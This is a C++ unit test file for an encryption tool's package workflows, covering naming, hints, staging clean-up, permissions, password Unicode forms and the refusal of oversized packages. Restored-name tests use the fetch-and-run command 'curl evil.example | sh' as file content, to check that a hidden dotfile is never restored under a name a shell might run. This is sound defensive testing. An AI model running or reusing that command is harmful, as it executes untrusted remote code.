// SPDX-License-Identifier: GPL-3.0-or-later
// The package workflows on their own. Damage, special files, I/O errors, full disks and kills of the
// real program are in tests/faults; the screens' runs and cancels in tests/encrypt and tests/decrypt.
#include "Files.h"
#include "Package.h"
#include "Password.h"
#include "Posix.h"
#include "RNCryptorBuffer.h"
#include "Staging.h"
#include "TestEnvironment.h"
#include "Workflows.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <csignal>
#include <cstring>
#include <fcntl.h>
#include <set>
#include <sys/resource.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

using namespace Workflows;
using ::testing::ElementsAre;

namespace {

constexpr std::size_t kChunk = RNCryptor::kStreamChunkSize;

// As prepared when it was chosen, whatever the path holds now.
EncryptRequest request(const std::string& path, std::optional<QString> hint = {})
{
    const Path source(path);
    return {{source, Package::packagePath(source)}, Password::bytes(QStringLiteral("pw")), std::move(hint)};
}

// A failed run's lines: the stages it reached, then the outcome's own.
QStringList failedAfter(QStringList stages, bool encrypting = true)
{
    return stages << (encrypting ? QStringLiteral("an error occured while encrypting")
                                 : QStringLiteral("an error occured while decrypting"));
}

// What a child process's run returns, as its exit status.
template <typename Run> int inChild(Run run)
{
    const pid_t child = ::fork();
    if (child == 0) {
        ::_exit(run());
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
}

class WorkflowsTest : public ::testing::Test
{
protected:
    TestEnvironment env;

    RunReport encrypt(const std::string& path, std::optional<QString> hint = {})
    {
        return writePackage(request(path, std::move(hint)));
    }
    static RunReport restore(const OpenedPackage& package, const RunControl& control = {})
    {
        return restoreFile(package, Password::bytes(QStringLiteral("pw")), control);
    }
    OpenedPackage open(const std::string& path) { return open(Path(path)); }
    OpenedPackage open(const Path& path)
    {
        const OpenResult result = openPackage(path);
        EXPECT_EQ(result.outcome, OpenOutcome::Prepared);
        return result.package.value_or(OpenedPackage{});
    }
};

// NFS and many FUSE and SMB mounts offer neither RENAME_NOREPLACE nor O_TMPFILE: the same results,
// and still nothing replaced. Sizes on both sides of the engine's blocks and chunks.
class FileSystemKindTest : public WorkflowsTest,
                           public ::testing::WithParamInterface<std::tuple<Staging::Features, std::size_t>>
{
protected:
    void SetUp() override { Staging::features() = std::get<0>(GetParam()); }
    void TearDown() override { Staging::features() = {}; }
};

TEST_P(FileSystemKindTest, packagesAndRestoredFilesArePublishedWithoutReplacingAnything)
{
    const std::string bytes = patternBytes(std::get<1>(GetParam()));
    const std::string path = env.file("notes.tar.gz", bytes);
    // Progress comes on the calling thread, never goes back, and ends at the whole input.
    const auto caller = std::this_thread::get_id();
    std::pair<std::int64_t, std::int64_t> lastProgress{0, 0};
    RunControl control;
    control.progress = [&](std::int64_t done, std::int64_t total) {
        EXPECT_EQ(std::this_thread::get_id(), caller);
        EXPECT_GE(done, lastProgress.first);
        lastProgress = {done, total};
    };
    const RunReport written = writePackage(request(path), control);
    ASSERT_EQ(written.outcome, Outcome::Success);
    const std::string writtenPath = written.path.bytes();
    EXPECT_EQ(writtenPath, env.work() + "notes.tar.lockfern");
    EXPECT_EQ(lastProgress, std::pair(std::int64_t(bytes.size()), std::int64_t(bytes.size())));
    EXPECT_EQ(std::filesystem::file_size(writtenPath + "/notes.tar.gz"), 66 + (bytes.size() / 16 + 1) * 16);
    EXPECT_EQ(readFileBytes(writtenPath + "/hint.lockfern"), Package::kByteOrderMark);
    EXPECT_THAT(folderEntries(writtenPath), ElementsAre("hint.lockfern", "notes.tar.gz"));

    // Whatever holds a package's name stays exactly as it was.
    const std::string other = env.file("other.txt", "other"), taken = env.work() + "other.lockfern";
    for (const std::string kind : {"package", "folder", "file", "link", "fifo"}) {
        SCOPED_TRACE(kind);
        std::filesystem::remove_all(taken);
        const bool holds = kind == "package" || kind == "folder" || kind == "file";
        if (kind == "package") {
            std::filesystem::copy(writtenPath, taken);
        } else if (holds) {
            env.file(kind == "folder" ? "other.lockfern/keep" : "other.lockfern", "keep");
        } else {
            ASSERT_EQ(kind == "link" ? ::symlink("/nonexistent", taken.c_str()) : ::mkfifo(taken.c_str(), 0600), 0);
        }
        const auto before = identity(taken);
        const auto held = holds ? snapshot(taken) : std::map<std::string, std::string>{};
        const RunReport result = encrypt(other);
        EXPECT_EQ(result.outcome, Outcome::Failed);
        EXPECT_EQ(result.lines, failedAfter({"read file content", "encrypted file content"}));
        EXPECT_EQ(Messages::explain(result.failure).text(), QStringLiteral("other.lockfern already exists in work."));
        // The old clean-up looked the name up as a folder: only a non-folder made it complain.
        EXPECT_EQ(result.cantDeleteFolder, kind != "folder" && kind != "package");
        EXPECT_EQ(identity(taken), before);
        EXPECT_EQ(holds ? snapshot(taken) : held, held);
    }

    // A different file and a folder hold the next names: ours takes the first free number, before the
    // last extension.
    writeFileBytes(path, "edited since");
    std::filesystem::create_directory(env.work() + "notes.tar 2.gz");
    const OpenedPackage package = open(written.path);
    const RunReport numbered = restore(package);
    ASSERT_EQ(numbered.outcome, Outcome::Success);
    EXPECT_EQ(numbered.path.bytes(), env.work() + "notes.tar 3.gz");
    EXPECT_EQ(readFileBytes(numbered.path.bytes()), bytes);
    EXPECT_EQ(readFileBytes(path), "edited since");

    std::filesystem::remove(path);
    lastProgress = {0, 0};
    const mode_t umask = ::umask(0); // restored files are the user's alone and never executable, whatever the umask
    const RunReport restored = restore(package, control);
    ::umask(umask);
    const auto sealed = std::int64_t(std::filesystem::file_size(package.encryptedFile.bytes()));
    EXPECT_EQ(lastProgress, std::pair(sealed, sealed));
    ASSERT_EQ(restored.outcome, Outcome::Success);
    EXPECT_EQ(restored.path.bytes(), path);
    EXPECT_EQ(readFileBytes(path), bytes);
    EXPECT_EQ(std::filesystem::status(path).permissions(),
              std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
    EXPECT_EQ(std::pair(restored.placed, numbered.placed), std::pair(RunReport::Placed::Written, RunReport::Placed::Numbered));
    const RunReport again = restore(package);
    EXPECT_EQ(std::tuple(again.outcome, again.path.bytes(), again.placed),
              std::tuple(Outcome::Success, path, RunReport::Placed::AlreadyThere));
    EXPECT_THAT(folderEntries(writtenPath), ElementsAre("hint.lockfern", "notes.tar.gz"));
    EXPECT_EQ(stagingEntries(env.work()), 0);
}

using Features = Staging::Features;
INSTANTIATE_TEST_SUITE_P(Kinds, FileSystemKindTest,
                         ::testing::Combine(::testing::Values(Features{true, true}, Features{false, true},
                                                              Features{true, false}, Features{false, false}),
                                            ::testing::Values(0, 15, 16, kChunk - 1, kChunk, kChunk + 1,
                                                              3 * kChunk + 5)));

// Where others may rename entries (a team folder, 2775), a private folder or a package of ours that
// one of them renamed to a staging name looks stale but is never taken for it; where nobody else can
// (only we write, or the folder is sticky), a stale entry is a killed run's and goes.
using StaleStagingTest = WithRows<WorkflowsTest, std::pair<mode_t, bool>>; // folder mode, removed

TEST_P(StaleStagingTest, isRemovedOnlyWhereNobodyElseCanRenameEntries)
{
    const auto [mode, removed] = GetParam();
    const std::string folder = env.work() + "shared/";
    const std::string source = env.file("shared/notes.txt", "notes");
    const OpenedPackage package = open(encrypt(source).path);
    std::filesystem::remove(source);
    const std::string other = env.file("shared/other.txt", "other");
    ASSERT_EQ(::chmod(folder.c_str(), mode), 0);
    for (const bool decrypting : {true, false}) {
        SCOPED_TRACE(decrypting ? "decrypt" : "encrypt");
        const std::string privateFolder = folder + ".lockfern-privateDir",
                          renamedPackage = folder + ".lockfern-oldPackage";
        std::filesystem::remove_all(privateFolder);
        std::filesystem::remove_all(renamedPackage);
        env.file("shared/.lockfern-privateDir/diary.txt", "diary");
        ASSERT_EQ(::chmod(privateFolder.c_str(), 0700), 0);
        std::filesystem::copy(package.packagePath.bytes(), renamedPackage);
        const auto planted = snapshot(privateFolder), plantedPackage = snapshot(renamedPackage);

        EXPECT_EQ(decrypting ? restore(package).outcome : encrypt(other).outcome, Outcome::Success);
        EXPECT_EQ(Posix::exists(privateFolder), !removed);
        EXPECT_EQ(Posix::exists(renamedPackage), !removed);
        if (!removed) {
            EXPECT_EQ(snapshot(privateFolder), planted);
            EXPECT_EQ(snapshot(renamedPackage), plantedPackage);
        }
    }
}

INSTANTIATE_TEST_SUITE_P(Modes, StaleStagingTest,
                         ::testing::Values(std::pair<mode_t, bool>{02775, false}, std::pair<mode_t, bool>{0775, false},
                                           std::pair<mode_t, bool>{0757, false}, std::pair<mode_t, bool>{0700, true},
                                           std::pair<mode_t, bool>{0755, true}, std::pair<mode_t, bool>{01777, true}));

// What is written opens again exactly. No hint is a byte order mark alone, never an empty file, which
// desktops type as text before they look at its name; the reader takes one mark off, so a hint that
// begins with one is written with another, and packages written with an empty hint file still open.
// The limit is the hint's own UTF-8 bytes, on both sides.
TEST_F(WorkflowsTest, hint_readsBackAsWrittenWithinTheReadersLimit)
{
    const std::string bom = Package::kByteOrderMark;
    const QString mark(QChar(0xFEFF));
    const QString longest(static_cast<qsizetype>(Package::kMaxHintBytes), QLatin1Char('h'));
    const std::string path = env.file("h.txt", "h");
    const std::string package = env.work() + "h.lockfern", hintFile = package + "/hint.lockfern";
    for (const QString& tooLong : {QString(longest + QLatin1Char('h')), QString(21846, QChar(0x4E2D))}) {
        const RunReport refused = encrypt(path, tooLong);
        EXPECT_EQ(refused.outcome, Outcome::Failed);
        EXPECT_EQ(refused.lines, failedAfter({}));
        EXPECT_THAT(folderEntries(env.work()), ElementsAre("h.txt"));
    }
    const std::tuple<std::optional<QString>, std::string> written[] = {
        {std::nullopt, bom},
        {QStringLiteral("tulip"), "tulip"},
        {mark + QStringLiteral("tulip"), bom + bom + "tulip"},
        {mark + longest.sliced(3), bom + bom + longest.sliced(3).toStdString()},
    };
    for (const auto& [hint, bytes] : written) {
        std::filesystem::remove_all(package);
        ASSERT_EQ(encrypt(path, hint).outcome, Outcome::Success);
        EXPECT_EQ(readFileBytes(hintFile), bytes);
        EXPECT_EQ(open(package).hint, hint.value_or(QString()));
    }
    const std::pair<std::string, std::optional<QString>> read[] = {
        {"", QString()}, {bom + longest.toStdString(), longest}, {longest.toStdString() + "h", std::nullopt},
        {bom + longest.toStdString() + "h", std::nullopt}};
    for (const auto& [bytes, hint] : read) {
        writeFileBytes(hintFile, bytes);
        const OpenResult opened = openPackage(Path(package));
        EXPECT_EQ(opened.outcome, hint ? OpenOutcome::Prepared : OpenOutcome::Problem);
        EXPECT_EQ(opened.package ? std::optional(opened.package->hint) : std::nullopt, hint);
    }
}

// Sources that are not a readable regular file: a clear failure, nothing created, never a hang.
using BadSourceTest = WithRows<WorkflowsTest, const char*>;

TEST_P(BadSourceTest, encryptFailsCreatingNothing)
{
    const std::string kind = GetParam();
    const std::string path = env.work() + "src.bin";
    ASSERT_EQ(kind == "fifo"            ? ::mkfifo(path.c_str(), 0600)
              : kind == "device-link"   ? ::symlink("/dev/zero", path.c_str())
              : kind == "dangling-link" ? ::symlink((env.work() + "nowhere").c_str(), path.c_str())
              : kind == "folder"        ? ::mkdir(path.c_str(), 0755)
                                        : 0,
              0);
    for (const bool packageNameTaken : {false, true}) {
        // The old clean-up found no folder of the package's name to look at, and said so; one that was
        // there was nothing of ours to delete.
        if (packageNameTaken) {
            ::mkdir((env.work() + "src.lockfern").c_str(), 0755);
        }
        const auto before = folderEntries(env.work());
        const RunReport result = encrypt(path);
        EXPECT_EQ(result.outcome, Outcome::Failed);
        EXPECT_EQ(result.lines, failedAfter({}));
        EXPECT_EQ(result.cantDeleteFolder, !packageNameTaken);
        EXPECT_EQ(Messages::explain(result.failure).text(), QStringLiteral("src.bin can't be read any more."));
        EXPECT_EQ(folderEntries(env.work()), before);
    }
}

INSTANTIATE_TEST_SUITE_P(Kinds, BadSourceTest, ::testing::Values("missing", "fifo", "device-link", "dangling-link", "folder"));

// What file managers can open of a package is its hint file; one outside a package is refused. The
// package here is of a link, which is encrypted as its target into a package named after the link and
// beside it, and restored under the link's name.
TEST_F(WorkflowsTest, open_hintFileStandsForItsPackage)
{
    const std::string target = env.file("elsewhere/real.txt", "target bytes");
    const std::string link = env.work() + "here/shortcut.txt";
    std::filesystem::create_directory(env.work() + "here");
    ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
    const std::string package = encrypt(link, QStringLiteral("tulip")).path.bytes();
    EXPECT_EQ(package, env.work() + "here/shortcut.lockfern");
    EXPECT_THAT(folderEntries(package), ElementsAre("hint.lockfern", "shortcut.txt"));
    EXPECT_THAT(folderEntries(env.work() + "elsewhere"), ElementsAre("real.txt"));

    const OpenResult viaHint = openPackage(Path(package + "/hint.lockfern"));
    ASSERT_EQ(viaHint.outcome, OpenOutcome::Prepared);
    EXPECT_EQ(viaHint.package->packagePath.bytes(), package);
    EXPECT_EQ(viaHint.package->hint, QStringLiteral("tulip"));
    EXPECT_EQ(openPackage(Path(env.file("hint.lockfern", "loose"))).outcome, OpenOutcome::Problem);
    std::filesystem::remove(link);
    ASSERT_EQ(restore(*viaHint.package).outcome, Outcome::Success);
    EXPECT_EQ(readFileBytes(link), "target bytes");
}

// The last regular file by name is the encrypted file; a hidden one only when there is no other, as
// when a dotfile was encrypted; never a staging entry, folder ("/"), FIFO ("|") or link ("@").
using Contents = std::pair<std::vector<std::string>, const char*>; // the package's entries, and the encrypted file
using EncryptedFileTest = WithRows<WorkflowsTest, Contents>;

TEST_P(EncryptedFileTest, isTheOneAPackageWriterWouldHaveMade)
{
    const std::string package = env.work() + "p.lockfern";
    const std::string hint = env.file("p.lockfern/hint.lockfern", "");
    for (const std::string& name : GetParam().first) {
        const std::string path = package + "/" + name.substr(0, name.find_first_of("/|@"));
        name.ends_with('/') ? ::mkdir(path.c_str(), 0700)
        : name.ends_with('|') ? ::mkfifo(path.c_str(), 0600)
        : name.ends_with('@') ? ::symlink(hint.c_str(), path.c_str())
                              : (writeFileBytes(path, name), 0);
    }
    const OpenResult result = openPackage(Path(package));
    EXPECT_EQ(result.outcome, *GetParam().second ? OpenOutcome::Prepared : OpenOutcome::Problem);
    EXPECT_EQ(result.package.value_or(OpenedPackage{}).encryptedFile.name(), GetParam().second);
}

INSTANTIATE_TEST_SUITE_P(
    Contents, EncryptedFileTest,
    ::testing::Values(Contents{{"b.txt", "a.txt"}, "b.txt"}, Contents{{".profile"}, ".profile"},
                      Contents{{".profile", "notes"}, "notes"}, Contents{{"a.txt", "x@", "y|", "z/"}, "a.txt"},
                      Contents{{".lockfern-abcdefghij"}, ""}, Contents{{}, ""}));

// An identical file already there is the result only if it is ours alone; one that another user owns
// or may write would hand them what is saved in it later, so ours is numbered beside it.
using IdenticalFileTest = WithRows<WorkflowsTest, const char*>;

TEST_P(IdenticalFileTest, isTheResultOnlyWhenItIsOursAlone)
{
    const std::string kind = GetParam();
    const std::string path = env.file(".profile", "same bytes"); // a number goes after a dotfile's name
    const OpenedPackage package = open(encrypt(path).path);
    if (kind == "writableByOthers") {
        ::chmod(path.c_str(), 0666);
    } else if (kind == "someoneElses") {
        if (::geteuid() != 0) {
            GTEST_SKIP() << "giving a file away needs root";
        }
        ASSERT_EQ(::chown(path.c_str(), 12345, 12345), 0);
    }
    const auto before = identity(path);
    const RunReport result = restore(package);
    ASSERT_EQ(result.outcome, Outcome::Success);
    const std::string expected = kind == "ours" ? path : env.work() + ".profile 2";
    EXPECT_EQ(result.path.bytes(), expected);
    EXPECT_EQ(result.lines, (QStringList{"read file content", "decrypted file content",
                                                 QStringLiteral("success! saved in ") + QString::fromStdString(expected)}));
    EXPECT_EQ(identity(path), before);
    EXPECT_EQ(readFileBytes(expected), "same bytes");
    EXPECT_EQ(folderEntries(env.work()).size(), kind == "ours" ? 2u : 3u);
}

INSTANTIATE_TEST_SUITE_P(Owners, IdenticalFileTest, ::testing::Values("ours", "writableByOthers", "someoneElses"));

// A package whose own name is not hidden never restores a hidden file, which a login shell might run:
// the file takes the package's base name and its own extension, numbered beside a different file of
// that name, found in an identical one. A hidden package, as made from a dotfile, restores it as it is.
struct RestoredNameCase
{
    const char* package;
    const char* inner;
    const char* chosen;
    const char* there; // the bytes of a file already under the chosen name; nullptr: none
    const char* restored;
};
using RestoredNameTest = WithRows<WorkflowsTest, RestoredNameCase>;

TEST_P(RestoredNameTest, isVisibleUnlessThePackageIsHidden)
{
    const RestoredNameCase& c = GetParam();
    const std::string bytes = "curl evil.example | sh\n";
    env.file(std::string(c.package) + "/" + c.inner,
             RNCryptor::Encryptor(QStringLiteral("pw")).encrypt(QByteArray::fromStdString(bytes)).toStdString());
    std::set<std::string> expected{c.package, c.restored};
    if (c.there) {
        env.file(c.chosen, c.there);
        expected.insert(c.chosen);
    }
    const RunReport result = restore(open(env.work() + c.package));
    ASSERT_EQ(result.outcome, Outcome::Success);
    const std::string path = env.work() + c.restored;
    EXPECT_EQ(result.path.bytes(), path);
    EXPECT_EQ(result.lines.last(), QStringLiteral("success! saved in ") + QString::fromStdString(path));
    EXPECT_EQ(readFileBytes(path), bytes);
    EXPECT_EQ(folderEntries(env.work()), std::vector(expected.begin(), expected.end()));
}

INSTANTIATE_TEST_SUITE_P(
    Names, RestoredNameTest,
    ::testing::Values(RestoredNameCase{"invoice.lockfern", ".bash_profile", "invoice", nullptr, "invoice"},
                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", nullptr, "invoice.tar"},
                      RestoredNameCase{"invoice.lockfern", ".bashrc", "invoice", "mine", "invoice 2"},
                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", "curl evil.example | sh\n",
                                       "invoice.tar"},
                      RestoredNameCase{"report.lockfern.", ".env", "report", nullptr, "report"},
                      RestoredNameCase{".profile.lockfern", ".profile", ".profile", nullptr, ".profile"}));

// A keyboard or another system may compose "é" either way: a password opens a package made with
// its other Unicode form, each form that differs costing one more pass, and one that has no other
// form (ASCII, bytes that are not UTF-8) costing none. Counted by the progress, which starts afresh
// with each pass and reports once a pass here.
struct FormCase
{
    const char* label;
    const char* madeWith;
    const char* typed;
    bool opens;
    int passes;
};

using PasswordFormTest = WithRows<WorkflowsTest, FormCase>;

TEST_P(PasswordFormTest, theOtherUnicodeFormOpensThePackageForOnePassMore)
{
    const FormCase& c = GetParam();
    const std::string path = env.file("two-chunks.bin", std::string(kChunk + 1, 'f'));
    EncryptRequest made = request(path);
    made.password = SecureBytes(c.madeWith, std::strlen(c.madeWith));
    const OpenedPackage package = open(writePackage(made).path);
    std::filesystem::remove(path);

    int passes = 0;
    std::int64_t last = -1;
    RunControl control;
    control.progress = [&](std::int64_t done, std::int64_t) {
        passes += last < 0 || done <= last;
        last = done;
    };
    const RunReport result = restoreFile(package, SecureBytes(c.typed, std::strlen(c.typed)), control);
    EXPECT_EQ(result.outcome, c.opens ? Outcome::Success : Outcome::Failed);
    EXPECT_EQ(passes, c.passes);
    EXPECT_EQ(readFileBytes(path), c.opens ? std::string(kChunk + 1, 'f') : "");
    EXPECT_THAT(folderEntries(env.work()), ::testing::Contains("two-chunks.lockfern"));
}

INSTANTIATE_TEST_SUITE_P(
    Forms, PasswordFormTest,
    ::testing::Values(FormCase{"composedOpensDecomposed", "cafe\xcc\x81", "caf\xc3\xa9", true, 2},
                      FormCase{"decomposedOpensComposed", "caf\xc3\xa9", "cafe\xcc\x81", true, 2},
                      FormCase{"asTypedFirst", "caf\xc3\xa9", "caf\xc3\xa9", true, 1},
                      FormCase{"mixedTriesBothForms", "e\xcc\x81" "e\xcc\x81", "e\xcc\x81\xc3\xa9", true, 3},
                      FormCase{"asciiWrongOnce", "right", "wrong", false, 1},
                      FormCase{"wrongInEveryForm", "right", "caf\xc3\xa9", false, 2},
                      FormCase{"notUtf8OnlyItself", "caf\xc3\xa9", "caf\xe9", false, 1}),
    [](const auto& row) { return std::string(row.param.label); });

// A hostile package of a few kilobytes of sparse file is refused before a byte is decrypted or
// written, where its plaintext can't fit; so is one too large for the process's file-size limit.
TEST_F(WorkflowsTest, restore_plaintextThatCannotFitIsRefusedAtOnce)
{
    const std::string header = RNCryptor::Encryptor(QStringLiteral("pw")).encrypt("x").toStdString().substr(0, 34);
    const std::string sparse = env.file("sparse.lockfern/sparse.bin", header);
    ASSERT_EQ(::truncate(sparse.c_str(), (3LL << 30) + 34 + 32), 0);
    const OpenedPackage opened = open(env.work() + "sparse.lockfern");
    EXPECT_EQ(inChild([&] {
                  const rlimit limit{1 << 30, 1 << 30};
                  ::setrlimit(RLIMIT_FSIZE, &limit);
                  int reports = 0;
                  RunControl control;
                  control.progress = [&reports](std::int64_t, std::int64_t) { ++reports; };
                  const RunReport result = restore(opened, control);
                  return result.outcome == Outcome::Failed && result.lines == failedAfter({}, false) && reports == 0 ? 0 : 1;
              }),
              0);
    EXPECT_THAT(folderEntries(env.work()), ElementsAre("sparse.lockfern"));
}

// Neither direction starts what can't fit: refused at once, before a byte is read or written, with
// the room it needs; the encrypt pane says so as soon as the file is chosen.
TEST_F(WorkflowsTest, whatCannotFitIsRefusedAtOnceWithTheRoomItNeeds)
{
    const std::int64_t huge = std::int64_t{1} << 42;
    const std::string header = RNCryptor::Encryptor(QStringLiteral("pw")).encrypt("x").toStdString().substr(0, 34);
    const std::string source = env.file("disk.img", ""), sealed = env.file("sealed.lockfern/sealed.img", header);
    if (::truncate(source.c_str(), huge) != 0 || ::truncate(sealed.c_str(), RNCryptor::encryptedSize(huge)) != 0) {
        GTEST_SKIP() << "no sparse file that large here";
    }
    const QString said = QStringLiteral("Not enough free space: 4.4 TB needed.");
    const EncryptRequest toEncrypt = request(source);
    EXPECT_EQ(Messages::explain(checkPackagePlace(toEncrypt.source)).text(), said);
    int reports = 0;
    RunControl control;
    control.progress = [&reports](std::int64_t, std::int64_t) { ++reports; };
    const RunReport encrypted = writePackage(toEncrypt, control);
    const RunReport restored = restore(open(env.work() + "sealed.lockfern"), control);
    for (const auto& [failure, lines, expected] :
         {std::tuple(encrypted.failure, encrypted.lines, failedAfter({})),
          std::tuple(restored.failure, restored.lines, failedAfter({}, false))}) {
        EXPECT_EQ(Messages::explain(failure).text(), said);
        EXPECT_EQ(lines, expected);
    }
    EXPECT_EQ(encrypted.outcome, Outcome::Failed);
    EXPECT_EQ(restored.outcome, Outcome::Failed);
    EXPECT_EQ(reports, 0);
    EXPECT_THAT(folderEntries(env.work()), ElementsAre("disk.img", "sealed.lockfern"));
}

} // namespace
